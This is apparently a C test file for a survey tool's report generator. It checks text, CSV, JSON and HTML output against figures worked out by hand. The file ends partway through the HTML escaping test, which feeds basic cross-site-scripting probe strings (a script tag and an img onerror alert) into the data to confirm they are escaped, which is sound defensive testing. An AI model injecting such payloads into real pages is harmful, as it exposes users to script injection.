/* test_report.c -- reports on a store filled through store.h: exact text,
 * CSV and JSON, with numbers worked out by hand in the comments; the HTML
 * page parsed back with libxml2 (HTML and XML parsers) and its figures
 * compared with the JSON report's. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>
#include <jansson.h>
#include <libxml/HTMLparser.h>
#include <libxml/parser.h>
#include <libxml/xpath.h>

#include "base/buf.h"
#include "base/config.h"
#include "report/report.h"
#include "report/report_private.h"
#include "store/store.h"
#include "tfix.h"
#include "model/survey.h"
#include "base/xmem.h"

static const char survey_xml[] =
"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
"<survey id=\"rt\" fallback=\"en\">\n"
" <title xml:lang=\"en\">Report test</title>\n"
" <question id=\"muni\" type=\"text\"><text xml:lang=\"en\">Your "
"municipality?</text></question>\n"
" <question id=\"strategy\" type=\"yesno\"><text xml:lang=\"en\">A "
"strategy?</text></question>\n"
" <question id=\"budget\" type=\"single\"><text xml:lang=\"en\">Budget?"
"</text>\n"
"  <option id=\"none\"><label xml:lang=\"en\">None</label></option>\n"
"  <option id=\"small\"><label xml:lang=\"en\">Small</label></option>\n"
"  <option id=\"large\"><label xml:lang=\"en\">Large</label></option>\n"
" </question>\n"
" <question id=\"areas\" type=\"multi\"><text xml:lang=\"en\">Areas?"
"</text>\n"
"  <option id=\"education\"><label xml:lang=\"en\">Education</label>"
"</option>\n"
"  <option id=\"employment\"><label xml:lang=\"en\">Employment</label>"
"</option>\n"
"  <option id=\"housing\"><label xml:lang=\"en\">Housing</label></option>\n"
" </question>\n"
" <question id=\"satisfaction\" type=\"scale\" min=\"1\" max=\"5\">"
"<text xml:lang=\"en\">Satisfied?</text>\n"
"  <min-label xml:lang=\"en\">Not at all</min-label>"
"<max-label xml:lang=\"en\">Fully</max-label>\n"
" </question>\n"
" <question id=\"staff\" type=\"number\" min=\"0\"><text xml:lang=\"en\">"
"Staff?</text></question>\n"
" <question id=\"meeting\" type=\"date\"><text xml:lang=\"en\">Which day?"
"</text>\n"
"  <option id=\"2026-03-10\"/>\n"
"  <option id=\"2026-03-17\"><label xml:lang=\"en\">Tuesday 17 March"
"</label></option>\n"
" </question>\n"
"</survey>\n";

struct fixture {
	char dir[64];
	struct config cfg;
	struct store *s;
	int64_t cid;
	int64_t contact[5];	/* a b c d e */
};

static const char *const people[5][4] = {
	{ "a@example.org", "Анна Иванова", "Каварна", "BG" },
	{ "b@example.org", "Bart Peeters", "Gent", "BE" },
	{ "c@example.org", "Čeněk Šťastný", "Ostrava", "CZ" },
	{ "d@example.org", "Дора Петрова", "Шумен", "BG" },
	{ "e@example.org", "Emil Stoev", "Варна", "BG" },
};


static int
contacts_fill(struct fixture *f)
{
	struct err e;

	if (store_begin(f->s, &e) < 0)
		return -1;
	for (int i = 0; i < 5; i++) {
		struct store_contact c = {
			.email = people[i][0], .name = people[i][1],
			.municipality = people[i][2], .country = people[i][3],
			.language = "en", .groups = "partners",
		};
		int created;

		if (store_contact_upsert(f->s, &c, &f->contact[i], &created,
					 &e) < 0)
			return -1;
	}
	return store_commit(f->s, &e);
}

/* Stores the questionnaire xml and campaign c (its questionnaire_id is
 * filled in here). */
static int
campaign_put(struct fixture *f, const char *xml, struct store_campaign *c,
	     int64_t *cid_r)
{
	struct errlist errs = { 0 };
	struct survey *sv;
	struct err e;
	int isnew;

	if (survey_load_memory(xml, strlen(xml), "rt.xml",
			       f->cfg.schema_path, &sv, &errs) < 0) {
		for (size_t i = 0; i < errs.n; i++)
			print_error("%s\n", errs.v[i]);
		errlist_free(&errs);
		return -1;
	}
	if (store_questionnaire_put(f->s, survey_id(sv), survey_hash(sv),
				    "rt.xml", xml, &c->questionnaire_id,
				    &isnew, &e) < 0 ||
	    store_campaign_put(f->s, c, cid_r, &e) < 0) {
		print_error("%s\n", e.msg);
		survey_free(&sv);
		return -1;
	}
	survey_free(&sv);
	return 0;
}

static int
campaign_fill(struct fixture *f)
{
	struct store_campaign c = {
		.name = "rt-2026", .kind = "survey", .template = "survey",
		.deadline = "2026-12-15", .reference = "RT26",
		.file = "rt.campaign", .extra = "{}",
	};

	return campaign_put(f, survey_xml, &c, &f->cid);
}

/* Each claimed row is handed over and completed at once: e's fails
 * permanently, the others are sent. */
struct deliver {
	struct fixture *f;
	size_t n;
	int rc;
};

static int
deliver_cb(void *arg, const struct store_outrow *r)
{
	struct deliver *x = arg;
	int failed = r->contact->id == x->f->contact[4];
	struct store_outcome o = {
		failed ? STORE_D_FAILED : STORE_D_SENT,
		failed ? "550 5.1.1 no such user" : "250 ok", 0, 0
	};
	char msgid[64];
	struct err e;

	snprintf(msgid, sizeof(msgid), "<%zu@test>", x->n++);
	if (store_outbox_handover(x->f->s, r->id, msgid, 60, &e) != 0 ||
	    store_outbox_complete(x->f->s, r->id, &o, &e) != 0)
		x->rc = -1;
	return 0;
}

/* Invites to all five; e's fails permanently. */
static int
deliveries_fill(struct fixture *f)
{
	struct deliver x = { f, 0, 0 };
	struct err e;
	long added, n;

	if (store_deliveries_plan(f->s, f->cid, "invite", &added, &e) < 0 ||
	    added != 5 || store_owner_register(f->s, "send", 0, &e) < 0 ||
	    store_outbox_claim(f->s, NULL, 10, 60, deliver_cb, &x, &n,
			       &e) < 0 || n != 5)
		return -1;
	return x.rc;
}

static int
inbound(struct fixture *f, const char *key, enum store_ikind kind,
	int64_t contact, int64_t campaign, const char *from,
	const char *reason, int64_t *id_r)
{
	struct store_inbound m = {
		.src_key = key, .from_addr = from, .subject = "Re: test",
		.date = "2026-11-02", .kind = kind, .reason = reason,
		.contact_id = contact, .campaign_id = campaign,
	};
	struct err e;

	if (kind == STORE_I_BOUNCE) {
		m.bounce_recipient = from;
		m.bounce_diag = "550 5.1.1 no such user";
		m.from_addr = "MAILER-DAEMON@example.org";
	}
	return store_inbound_add(f->s, &m, id_r, &e);
}

static int
respond_in(struct fixture *f, int64_t cid, int64_t contact, const char *from,
	   const char *key, const struct store_answer *a, size_t n)
{
	struct err e;
	int64_t in, rid;

	if (store_begin(f->s, &e) < 0 ||
	    inbound(f, key, STORE_I_ANSWERS, contact, cid, from, NULL,
		    &in) < 0 ||
	    store_response_add(f->s, cid, contact, in, a, n, &rid, &e) < 0)
		return -1;
	return store_commit(f->s, &e);
}

static int
respond(struct fixture *f, int who, const char *key,
	const struct store_answer *a, size_t n)
{
	return respond_in(f, f->cid, f->contact[who], people[who][0], key, a,
			  n);
}

static int
responses_fill(struct fixture *f)
{
	/* a answered twice: only the second (current) response counts */
	static const struct store_answer a1[] = {
		{ "strategy", "no" }, { "satisfaction", "1" },
	};
	static const struct store_answer a2[] = {
		{ "muni", "Община Каварна,\nексперт" }, { "strategy", "yes" },
		{ "budget", "small" }, { "areas", "education,housing" },
		{ "satisfaction", "4" }, { "staff", "3" },
		{ "meeting", "2026-03-10" },
	};
	static const struct store_answer b[] = {
		{ "muni", "Stad Gent" }, { "strategy", "yes" },
		{ "budget", "large" }, { "areas", "education" },
		{ "satisfaction", "5" }, { "staff", "10" },
		{ "meeting", "2026-03-17" },
	};
	static const struct store_answer c[] = {
		{ "strategy", "no" }, { "budget", "small" },
		{ "areas", "employment,housing,education" },
		{ "satisfaction", "2" }, { "meeting", "2026-03-10" },
	};
	struct err e;
	int64_t id;

	if (respond(f, 0, "k/1", a1, 2) < 0 || respond(f, 0, "k/2", a2, 7) < 0 ||
	    respond(f, 1, "k/3", b, 7) < 0 || respond(f, 2, "k/4", c, 5) < 0)
		return -1;
	/* what needs a person: one each of unmatched (no campaign),
	 * unreadable and a bounce for this campaign */
	if (store_begin(f->s, &e) < 0 ||
	    inbound(f, "k/5", STORE_I_UNMATCHED, 0, 0, "stranger@example.net",
		    "no token, unknown sender", &id) < 0 ||
	    inbound(f, "k/6", STORE_I_UNREADABLE, f->contact[3], f->cid,
		    people[3][0], "Q3: 'maybe' is not one of a, b, c",
		    &id) < 0 ||
	    inbound(f, "k/7", STORE_I_BOUNCE, f->contact[4], f->cid,
		    people[4][0], NULL, &id) < 0)
		return -1;
	return store_commit(f->s, &e);
}

static int
setup(void **state)
{
	struct fixture *f = xcalloc(1, sizeof(*f));

	if (tfix_open("test_report", f->dir, &f->s) < 0)
		return -1;
	f->cfg.schema_path = xstrdup("surveys/survey.rng");
	*state = f;
	if (contacts_fill(f) < 0 || campaign_fill(f) < 0 ||
	    deliveries_fill(f) < 0 || responses_fill(f) < 0) {
		print_error("filling the store failed\n");
		return -1;
	}
	return 0;
}

static int
teardown(void **state)
{
	struct fixture *f = *state;

	tfix_close(f->dir, &f->s);
	free(f->cfg.schema_path);
	free(f);
	return 0;
}

static char *
run(struct fixture *f, const char *campaign, enum report_format fmt, int *rc,
    struct err *e)
{
	char *mem = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&mem, &len);

	*rc = report_write(f->s, &f->cfg, campaign, fmt, out, e);
	fclose(out);
	return mem;
}

/*
 * By hand: delivered a b c d (e failed) = 4, responded a b c = 3: 75.0%.
 * yes/no: yes a b, no c -> 2 66.7%, 1 33.3%. areas (multi, of 3):
 * education a b c 3 100.0%, employment c 1 33.3%, housing a c 2 66.7%.
 * satisfaction 4 5 2 -> mean 11/3 = 3.7 (JSON: 3.66667), median 4.0; a's first answer 1
 * was superseded. staff 3 10 -> mean 6.5, median 6.5.
 */
static const char want_text[] =
"Campaign rt-2026 (survey, RT26), deadline 2026-12-15\n"
"Questionnaire: Report test (rt)\n"
"\n"
"Deliveries\n"
"  invite     pending 0  sending 0  sent 4  failed 1  deferred 0  skipped 0\n"
"  unknown 0\n"
"  reminder   pending 0  sending 0  sent 0  failed 0  deferred 0  skipped 0\n"
"  unknown 0\n"
"\n"
"Responses: 3 of 4 delivered (75.0%)\n"
"\n"
"Q1. Your municipality?\n"
"  (text, 2 answered)\n"
"  [Каварна] Община Каварна,\n"
"      експерт\n"
"  [Gent] Stad Gent\n"
"\n"
"Q2. A strategy?\n"
"  (yesno, 3 answered)\n"
"  Yes  2   66.7%\n"
"  No   1   33.3%\n"
"  By country          n   opt1   opt2\n"
"    BE                1      1      0\n"
"    BG                1      1      0\n"
"    CZ                1      0      1\n"
"  By municipality     n   opt1   opt2\n"
"    Gent              1      1      0\n"
"    Ostrava           1      0      1\n"
"    Каварна           1      1      0\n"
"\n"
"Q3. Budget?\n"
"  (single, 3 answered)\n"
"  None   0    0.0%\n"
"  Small  2   66.7%\n"
"  Large  1   33.3%\n"
"  By country          n   opt1   opt2   opt3\n"
"    BE                1      0      0      1\n"
"    BG                1      0      1      0\n"
"    CZ                1      0      1      0\n"
"  By municipality     n   opt1   opt2   opt3\n"
"    Gent              1      0      0      1\n"
"    Ostrava           1      0      1      0\n"
"    Каварна           1      0      1      0\n"
"\n"
"Q4. Areas?\n"
"  (multi, 3 answered; percent of those who answered, several choices each)\n"
"  Education   3  100.0%\n"
"  Employment  1   33.3%\n"
"  Housing     2   66.7%\n"
"  By country          n   opt1   opt2   opt3\n"
"    BE                1      1      0      0\n"
"    BG                1      1      0      1\n"
"    CZ                1      1      1      1\n"
"  By municipality     n   opt1   opt2   opt3\n"
"    Gent              1      1      0      0\n"
"    Ostrava           1      1      1      1\n"
"    Каварна           1      1      0      1\n"
"\n"
"Q5. Satisfied?\n"
"  (scale, 3 answered)\n"
"  n 3  mean 3.7  median 4.0  min 2  max 5\n"
"\n"
"Q6. Staff?\n"
"  (number, 2 answered)\n"
"  n 2  mean 6.5  median 6.5  min 3  max 10\n"
"\n"
"Q7. Which day?\n"
"  (date, 3 answered)\n"
"  2026-03-10        2   66.7%\n"
"  Tuesday 17 March  1   33.3%\n"
"  By country          n   opt1   opt2\n"
"    BE                1      0      1\n"
"    BG                1      1      0\n"
"    CZ                1      1      0\n"
"  By municipality     n   opt1   opt2\n"
"    Gent              1      0      1\n"
"    Ostrava           1      1      0\n"
"    Каварна           1      1      0\n"
"\n"
"Not answered (2)\n"
"  d@example.org  Дора Петрова  Шумен\n"
"  e@example.org  Emil Stoev    Варна  (not delivered)\n"
"\n"
"Needs a person\n"
"  replies not matched to a contact 1\n"
"    2026-11-02  stranger@example.net  \"Re: test\": no token, unknown sender\n"
"  answers that could not be read   1\n"
"    2026-11-02  d@example.org  \"Re: test\": Q3: 'maybe' is not one of a, b, c\n"
"  messages quarantined             0\n"
"  bounces                          1\n"
"    2026-11-02  e@example.org  \"Re: test\": 550 5.1.1 no such user\n";

static void
test_text(void **state)
{
	struct fixture *f = *state;
	struct err e;
	int rc;
	char *out = run(f, "rt-2026", REPORT_TEXT, &rc, &e);

	assert_int_equal(rc, 0);
	assert_string_equal(out, want_text);
	free(out);
}

static const char want_csv[] =
"email,name,municipality,country,language,delivered,responded,answered_by,"
"muni,strategy,budget,areas,satisfaction,staff,meeting\r\n"
"a@example.org,Анна Иванова,Каварна,BG,en,yes,yes,,\"Община Каварна,\n"
"експерт\",yes,small,\"education,housing\",4,3,2026-03-10\r\n"
"b@example.org,Bart Peeters,Gent,BE,en,yes,yes,,Stad Gent,yes,large,"
"education,5,10,2026-03-17\r\n"
"c@example.org,Čeněk Šťastný,Ostrava,CZ,en,yes,yes,,,no,small,"
"\"employment,housing,education\",2,,2026-03-10\r\n"
"d@example.org,Дора Петрова,Шумен,BG,en,yes,no,,,,,,,,\r\n"
"e@example.org,Emil Stoev,Варна,BG,en,no,no,,,,,,,,\r\n";

static void
test_csv(void **state)
{
	struct fixture *f = *state;
	struct err e;
	int rc;
	char *out = run(f, "rt-2026", REPORT_CSV, &rc, &e);

	assert_int_equal(rc, 0);
	assert_string_equal(out, want_csv);
	free(out);
}

static const char want_json[] =
"{\"campaign\":{\"name\":\"rt-2026\",\"kind\":\"survey\",\"reference\":"
"\"RT26\",\"deadline\":\"2026-12-15\",\"questionnaire\":\"rt\"},"
"\"deliveries\":{\"invite\":{\"pending\":0,\"sending\":0,\"sent\":4,"
"\"failed\":1,\"deferred\":0,\"skipped\":0,\"unknown\":0},"
"\"reminder\":{\"pending\":0,"
"\"sending\":0,\"sent\":0,\"failed\":0,\"deferred\":0,\"skipped\":0,"
"\"unknown\":0}},"
"\"responses\":{\"contacts\":5,\"delivered\":4,\"responded\":3,\"late\":0,"
"\"rate\":75.0},"
"\"questions\":["
"{\"id\":\"muni\",\"number\":1,\"type\":\"text\",\"text\":"
"\"Your municipality?\",\"answered\":2,\"answers\":[{\"municipality\":"
"\"Каварна\",\"text\":\"Община Каварна,\\nексперт\"},{\"municipality\":"
"\"Gent\",\"text\":\"Stad Gent\"}]},"
"{\"id\":\"strategy\",\"number\":2,\"type\":\"yesno\",\"text\":"
"\"A strategy?\",\"answered\":3,\"options\":[{\"id\":\"yes\",\"label\":"
"\"Yes\",\"count\":2,\"percent\":66.7},{\"id\":\"no\",\"label\":\"No\","
"\"count\":1,\"percent\":33.3}],\"other\":0},"
"{\"id\":\"budget\",\"number\":3,\"type\":\"single\",\"text\":\"Budget?\","
"\"answered\":3,\"options\":[{\"id\":\"none\",\"label\":\"None\","
"\"count\":0,\"percent\":0.0},{\"id\":\"small\",\"label\":\"Small\","
"\"count\":2,\"percent\":66.7},{\"id\":\"large\",\"label\":\"Large\","
"\"count\":1,\"percent\":33.3}],\"other\":0},"
"{\"id\":\"areas\",\"number\":4,\"type\":\"multi\",\"text\":\"Areas?\","
"\"answered\":3,\"options\":[{\"id\":\"education\",\"label\":"
"\"Education\",\"count\":3,\"percent\":100.0},{\"id\":\"employment\","
"\"label\":\"Employment\",\"count\":1,\"percent\":33.3},{\"id\":"
"\"housing\",\"label\":\"Housing\",\"count\":2,\"percent\":66.7}],"
"\"other\":0},"
"{\"id\":\"satisfaction\",\"number\":5,\"type\":\"scale\",\"text\":"
"\"Satisfied?\",\"answered\":3,\"n\":3,\"mean\":3.66667,\"median\":4.0,"
"\"min\":2,\"max\":5},"
"{\"id\":\"staff\",\"number\":6,\"type\":\"number\",\"text\":\"Staff?\","
"\"answered\":2,\"n\":2,\"mean\":6.5,\"median\":6.5,\"min\":3,\"max\":10},"
"{\"id\":\"meeting\",\"number\":7,\"type\":\"date\",\"text\":"
"\"Which day?\",\"answered\":3,\"options\":[{\"id\":\"2026-03-10\","
"\"label\":\"2026-03-10\",\"count\":2,\"percent\":66.7},{\"id\":"
"\"2026-03-17\",\"label\":\"Tuesday 17 March\",\"count\":1,\"percent\":"
"33.3}],\"other\":0}],"
"\"not_answered\":[{\"email\":\"d@example.org\",\"name\":\"Дора Петрова\","
"\"municipality\":\"Шумен\",\"delivered\":true},{\"email\":"
"\"e@example.org\",\"name\":\"Emil Stoev\",\"municipality\":\"Варна\","
"\"delivered\":false}],"
"\"needs_person\":{\"unmatched\":1,\"unreadable\":1,\"quarantine\":0,"
"\"bounces\":1}}\n";

static void
test_json(void **state)
{
	struct fixture *f = *state;
	struct err e;
	int rc;
	char *out = run(f, "rt-2026", REPORT_JSON, &rc, &e);

	assert_int_equal(rc, 0);
	assert_string_equal(out, want_json);
	free(out);
}

static void
test_unknown_campaign_and_format(void **state)
{
	struct fixture *f = *state;
	enum report_format fmt;
	struct err e;
	int rc;
	char *out = run(f, "nope", REPORT_TEXT, &rc, &e);

	assert_int_equal(rc, -1);
	assert_string_equal(e.msg, "report: no campaign \"nope\" (anketa "
			    "campaign list shows them)");
	free(out);
	assert_int_equal(report_format_parse("json", &fmt), 0);
	assert_int_equal(fmt, REPORT_JSON);
	assert_int_equal(report_format_parse("csv", &fmt), 0);
	assert_int_equal(fmt, REPORT_CSV);
	assert_int_equal(report_format_parse("text", &fmt), 0);
	assert_int_equal(fmt, REPORT_TEXT);
	assert_int_equal(report_format_parse("html", &fmt), 0);
	assert_int_equal(fmt, REPORT_HTML);
	assert_int_equal(report_format_parse("pdf", &fmt), -1);
}

/* ---- HTML ------------------------------------------------------------- */

struct perrs {
	int n;
	char first[512];
};

/* libxml2 2.9's HTML parser predates HTML5 and calls inline SVG's
 * elements unknown tags; those, and nothing else, are accepted. */
static void
collect(void *arg, xmlErrorPtr err)
{
	static const char *const svg[] = { "svg", "rect", "text" };
	struct perrs *pe = arg;

	if (err->code == XML_HTML_UNKNOWN_TAG && err->str1)
		for (size_t i = 0; i < 3; i++)
			if (strcmp(err->str1, svg[i]) == 0)
				return;
	if (pe->n++ == 0)
		snprintf(pe->first, sizeof(pe->first), "line %d: %s",
			 err->line, err->message);
}

static xmlDocPtr
parse_page(const char *page, int html, struct perrs *pe)
{
	int len = (int)strlen(page);
	xmlDocPtr d;

	memset(pe, 0, sizeof(*pe));
	xmlSetStructuredErrorFunc(pe, collect);
	if (html)
		d = htmlReadMemory(page, len, "report.html", "UTF-8",
				   HTML_PARSE_NONET);
	else
		d = xmlReadMemory(page, len, "report.xhtml", "UTF-8",
				  XML_PARSE_NONET);
	xmlSetStructuredErrorFunc(NULL, NULL);
	if (pe->n)
		print_error("%s parser: %d errors, first %s\n",
			    html ? "HTML" : "XML", pe->n, pe->first);
	return d;
}

/* Parses the page both ways; both must succeed without an error. */
static xmlDocPtr
parse_both(const char *page)
{
	struct perrs pe;
	xmlDocPtr d = parse_page(page, 1, &pe);

	assert_non_null(d);
	assert_int_equal(pe.n, 0);
	xmlFreeDoc(d);
	d = parse_page(page, 0, &pe);
	assert_non_null(d);
	assert_int_equal(pe.n, 0);
	return d;
}

/* The text of the one node xpath matches; NULL for none or several. */
static char *
xpath_text(xmlDocPtr d, const char *xpath)
{
	xmlXPathContextPtr x = xmlXPathNewContext(d);
	xmlXPathObjectPtr o = xmlXPathEvalExpression(BAD_CAST xpath, x);
	char *r = NULL;

	if (o && o->nodesetval && o->nodesetval->nodeNr == 1) {
		xmlChar *t = xmlNodeGetContent(o->nodesetval->nodeTab[0]);

		r = xstrdup((const char *)t);
		xmlFree(t);
	}
	xmlXPathFreeObject(o);
	xmlXPathFreeContext(x);
	return r;
}

static double
xpath_num(xmlDocPtr d, const char *xpath)
{
	xmlXPathContextPtr x = xmlXPathNewContext(d);
	xmlXPathObjectPtr o = xmlXPathEvalExpression(BAD_CAST xpath, x);
	double v = o ? o->floatval : -1;

	xmlXPathFreeObject(o);
	xmlXPathFreeContext(x);
	return v;
}

static void
assert_xpath(xmlDocPtr d, const char *xpath, const char *want)
{
	char *got = xpath_text(d, xpath);

	if (got == NULL)
		print_error("no single node for %s\n", xpath);
	assert_non_null(got);
	assert_string_equal(got, want);
	free(got);
}

static void
test_html_page(void **state)
{
	struct fixture *f = *state;
	struct err e;
	int rc;
	char *out = run(f, "rt-2026", REPORT_HTML, &rc, &e);
	xmlDocPtr d;

	assert_int_equal(rc, 0);
	assert_memory_equal(out, "<!DOCTYPE html>\n<html lang=\"en\">", 31);
	d = parse_both(out);
	assert_xpath(d, "/html/@lang", "en");
	assert_xpath(d, "/html/head/meta/@charset", "utf-8");
	assert_xpath(d, "/html/head/title", "Campaign rt-2026: results");
	assert_xpath(d, "//h1", "Campaign rt-2026");
	/* self-contained: nothing to fetch, nothing to run */
	assert_true(xpath_num(d, "count(//script|//link|//img|//iframe|"
			      "//object|//@src|//@href)") == 0);
	assert_true(xpath_num(d, "count(//@*[starts-with(name(),'on')])")
		    == 0);
	/* bars for yesno, single, multi, date; histograms for scale and
	 * number; each chart names itself with its <title> */
	assert_true(xpath_num(d, "count(//*[local-name()='svg'])") == 6);
	assert_true(xpath_num(d, "count(//*[local-name()='svg']"
			      "[*[1][local-name()='title']])") == 6);
	assert_xpath(d, "//*[@id='strategy-chart']",
		     "Q2. A strategy?: Yes 2 (66.7%); No 1 (33.3%)");
	assert_xpath(d, "//*[@id='satisfaction-hist']",
		     "Q5. Satisfied?: 1: 0; 2: 1; 3: 0; 4: 1; 5: 1");
	/* a short range of whole numbers: a bin per value, zeros shown */
	assert_xpath(d, "//*[@id='staff-hist']", "Q6. Staff?: 3: 1; 4: 0; "
		     "5: 0; 6: 0; 7: 0; 8: 0; 9: 0; 10: 1");
	/* the same numbers beside each chart, in a table */
	assert_xpath(d, "//div[@id='q-meeting']//table[@class='counts']/tbody/tr[2]",
		     "Tuesday 17 March133.3%");
	/* free text with the municipality, multi-line kept */
	assert_xpath(d, "//div[@id='q-muni']//li[1]/span[@class='who']",
		     "Каварна");
	assert_xpath(d, "//div[@id='q-muni']//li[1]/span[@class='a']",
		     "Община Каварна,\nексперт");
	assert_true(xpath_num(d, "count(//div[@id='q-muni']//li)") == 2);
	/* roster and what needs a person */
	assert_xpath(d, "//table[@class='roster']/tbody/tr[2]",
		     "e@example.orgEmil StoevВарнаnot delivered");
	assert_true(xpath_num(d, "count(//table[@class='roster']/tbody/tr)")
		    == 2);
	assert_true(xpath_num(d, "count(//td[.='stranger@example.net'])")
		    == 1);
	assert_true(xpath_num(d, "count(//td[.=\"Q3: 'maybe' is not one "
			      "of a, b, c\"])") == 1);
	xmlFreeDoc(d);
	free(out);
}

/* JSON numbers by path: "responses.rate", "questions.ID.options.OID.count"
 * (array items named by their "id", else their index), in the order the
 * report writes them (jansson keeps object members in file order). */
struct leaves {
	char path[128][96];
	double v[128];
	size_t n;
};

static void
jvalue(struct leaves *l, const json_t *v, struct buf *path);

static void
jmember(struct leaves *l, const json_t *v, struct buf *path,
	const char *seg)
{
	size_t keep = path->len;

	if (path->len)
		buf_addc(path, '.');
	buf_adds(path, seg);
	jvalue(l, v, path);
	path->len = keep;
	path->data[keep] = '\0';
}

static void
jvalue(struct leaves *l, const json_t *v, struct buf *path)
{
	const json_t *item;
	const char *key, *id;
	char idx[24];
	size_t i;

	if (json_is_object(v)) {
		json_object_foreach((json_t *)v, key, item)
			jmember(l, item, path, key);
	} else if (json_is_array(v)) {
		json_array_foreach(v, i, item) {
			id = json_string_value(json_object_get(item, "id"));
			snprintf(idx, sizeof(idx), "%zu", i);
			jmember(l, item, path, id ? id : idx);
		}
	} else if (json_is_number(v)) {
		assert_true(l->n < 128);
		l->v[l->n] = json_number_value(v);
		snprintf(l->path[l->n++], 96, "%s", path->data);
	}	/* strings, true, false, null: not figures */
}

static void
test_html_numbers_are_json(void **state)
{
	struct fixture *f = *state;
	struct leaves *l = xcalloc(1, sizeof(*l));
	struct err e;
	struct buf path;
	int rc;
	char *json = run(f, "rt-2026", REPORT_JSON, &rc, &e);
	char *html = run(f, "rt-2026", REPORT_HTML, &rc, &e);
	xmlDocPtr d = parse_both(html);
	json_error_t je;
	json_t *tree = json_loads(json, JSON_REJECT_DUPLICATES, &je);

	/* the JSON report parses as JSON, duplicate keys refused */
	if (tree == NULL)
		fail_msg("report JSON: line %d column %d: %s", je.line,
			 je.column, je.text);
	buf_init(&path, 0);
	jvalue(l, tree, &path);
	json_decref(tree);
	/* deliveries 14, responses 5, questions 2+7+9+9+7+7+7, needs 4 */
	assert_int_equal(l->n, 71);
	for (size_t i = 0; i < l->n; i++) {
		char *xp = xasprintf("//*[@data-key='%s']", l->path[i]);
		char *got = xpath_text(d, xp);
		/* the page shows the mean to a tenth, JSON exactly */
		double tol = strstr(l->path[i], ".mean") ? 0.05 : 0;
		double v;

		if (got == NULL)
			print_error("%s: not in the page once\n", l->path[i]);
		assert_non_null(got);
		v = strtod(got, NULL);
		if (v < l->v[i] - tol || v > l->v[i] + tol)
			print_error("%s: page %s, JSON %g\n", l->path[i], got,
				    l->v[i]);
		assert_true(v >= l->v[i] - tol && v <= l->v[i] + tol);
		free(got);
		free(xp);
	}
	/* and the page has no figure the JSON lacks */
	assert_true(xpath_num(d, "count(//*[@data-key])") == (double)l->n);
	assert_string_equal(l->path[15], "responses.delivered");
	xmlFreeDoc(d);
	buf_free(&path);
	free(json);
	free(html);
	free(l);
}

static const char esc_xml[] =
"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
"<survey id=\"esc\" fallback=\"en\">\n"
" <title xml:lang=\"en\">Escapes &amp; &lt;tests&gt; \"q\"</title>\n"
" <question id=\"view\" type=\"text\"><text xml:lang=\"en\">Your "
"&lt;b&gt;view&lt;/b&gt; &amp; 'why'?</text></question>\n"
" <question id=\"pick\" type=\"single\"><text xml:lang=\"en\">Pick</text>\n"
"  <option id=\"x\"><label xml:lang=\"en\">&lt;img src=x "
"onerror=alert(1)&gt;</label></option>\n"
"  <option id=\"y\"><label xml:lang=\"en\">Y</label></option>\n"
" </question>\n"
"</survey>\n";

static const char hostile[] = "<script>alert(1)</script> & \"quotes\"";
static const char cyrillic[] = "Да, имаме стратегия „Заедно“ — 2026 г.";

/* Contacts and a campaign of their own, so the other tests' figures stay
 * as worked out above: evil@ answers the hostile text, penka@ Cyrillic,
 * bytes@ invalid UTF-8 and a control character, mal@ does not answer. */
static int
esc_fill(struct fixture *f, int64_t *cid)
{
	static const char *const who[4][3] = {
		{ "bytes@example.org", "Bytes", "Bad\x01Town" },
		{ "evil@example.org", "<b>Evil</b> & \"Co\"", "<i>Town</i>" },
		{ "mal@example.org", "Mal <script>x</script> 'O'", "M&M" },
		{ "penka@example.org", "Пенка Колева", "Кърджали" },
	};
	const struct store_answer a[3][2] = {
		{ { "view", "bad \xff\xfe byte \x01 end\r\n" } },
		{ { "view", hostile }, { "pick", "x" } },
		{ { "view", cyrillic }, { "pick", "y" } },
	};
	struct store_campaign c = {
		.name = "esc-2026", .kind = "survey", .template = "survey",
		.reference = "E&<1>", .file = "esc.campaign", .extra = "{}",
		.audience = { .group = "esc" },
	};
	int64_t id[4];
	struct err e;
	long added;
	int created;

	if (store_begin(f->s, &e) < 0)
		return -1;
	for (int i = 0; i < 4; i++) {
		struct store_contact k = {
			.email = who[i][0], .name = who[i][1],
			.municipality = who[i][2], .country = "BG",
			.language = "en", .groups = "esc",
		};

		if (store_contact_upsert(f->s, &k, &id[i], &created, &e) < 0)
			return -1;
	}
	if (store_commit(f->s, &e) < 0 ||
	    campaign_put(f, esc_xml, &c, cid) < 0 ||
	    store_deliveries_plan(f->s, *cid, "invite", &added, &e) < 0 ||
	    added != 4)
		return -1;
	return respond_in(f, *cid, id[0], who[0][0], "e/1", a[0], 1) < 0 ||
	       respond_in(f, *cid, id[1], who[1][0], "e/2", a[1], 2) < 0 ||
	       respond_in(f, *cid, id[3], who[3][0], "e/3", a[2], 2) < 0 ?
	       -1 : 0;
}

static void
test_html_escapes(void **state)
{
	struct fixture *f = *state;
	struct err e;
	int64_t cid;
	int rc;
	char *out;
	xmlDocPtr d;

	assert_int_equal(esc_fill(f, &cid), 0);
	out = run(f, "esc-2026", REPORT_HTML, &rc, &e);
	assert_int_equal(rc, 0);
	/* no markup from the data survives as markup */
	assert_null(strstr(out, "<script"));
	assert_null(strstr(out, "<img"));
	assert_null(strstr(out, "<b>"));
	assert_null(strstr(out, "<i>"));
	assert_null(strstr(out, "\x01"));
	assert_non_null(strstr(out, "&lt;script&gt;alert(1)&lt;/script&gt; "
				"&amp; &quot;quotes&quot;"));
	assert_non_null(strstr(out, cyrillic));
	assert_non_null(strstr(out, "Кърджали"));
	d = parse_both(out);
	/* and reads back as the very text given (email order: bytes, evil,
	 * penka); bytes XML cannot carry become U+FFFD, CR is dropped */
	assert_xpath(d, "//div[@id='q-view']//li[1]/span[@class='a']",
		     "bad \xef\xbf\xbd\xef\xbf\xbd byte \xef\xbf\xbd end\n");
	assert_xpath(d, "//div[@id='q-view']//li[1]/span[@class='who']",
		     "Bad\xef\xbf\xbdTown");
	assert_xpath(d, "//div[@id='q-view']//li[2]/span[@class='a']",
		     hostile);
	assert_xpath(d, "//div[@id='q-view']//li[2]/span[@class='who']",
		     "<i>Town</i>");
	assert_xpath(d, "//div[@id='q-view']//li[3]/span[@class='a']",
		     cyrillic);
	assert_xpath(d, "//div[@id='q-view']/h3",
		     "Q1. Your <b>view</b> & 'why'?");
